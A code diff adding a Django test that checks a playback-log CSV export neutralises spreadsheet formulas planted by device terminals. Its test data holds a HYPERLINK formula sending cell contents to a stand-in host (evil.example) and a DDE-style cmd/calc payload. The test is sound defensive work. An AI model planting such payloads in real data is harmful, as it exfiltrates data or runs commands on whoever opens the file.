@@ -1,6 +1,8 @@
 """Playback logs (播出记录): stored once from the ingest worker, seen within one's regions, and the
 coverage figures the reporting module reads."""
 
+import csv
+import io
 import json
 from collections.abc import Iterator
 from datetime import date, datetime, time, timedelta
@@ -180,3 +182,24 @@ def test_a_batch_costs_the_same_queries_for_one_terminal_or_many(terminals, dash
         ingest_batch([uplink(t.code, line(1, at(7)), line(2, at(12))) for t in many])
     assert PlaybackLog.objects.count() == 41
     assert len(twenty.captured_queries) == len(one.captured_queries)
+
+
+def test_playlog_export_neutralises_formulas_a_terminal_put_in_title_and_reason(
+    terminals, township_station_operator: User, dashizi: Region
+) -> None:
+    """Title and reason come from devices: a stolen terminal must not plant a formula in a county's export (item 16)."""
+    first, _second = terminals["dashizi"]
+    hostile_title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    ingest_batch(
+        [uplink(first.code, line(1, at(7), "interrupted", title=hostile_title, reason="@SUM(1+1)*cmd|' /C calc'!A0"))]
+    )
+    client = Client()
+    client.force_login(township_station_operator)
+
+    export = client.get("/broadcasting/playlogs/", {"region": dashizi.code, "format": "csv"})
+
+    text = b"".join(cast(Iterator[bytes], cast(StreamingHttpResponse, export).streaming_content)).decode("utf-8-sig")
+    [row] = list(csv.reader(io.StringIO(text)))[1:]
+    assert "'" + hostile_title in row
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
+    assert not any(cell.startswith(("=", "@", "+", "-")) and not cell.lstrip("+-").isdigit() for cell in row)
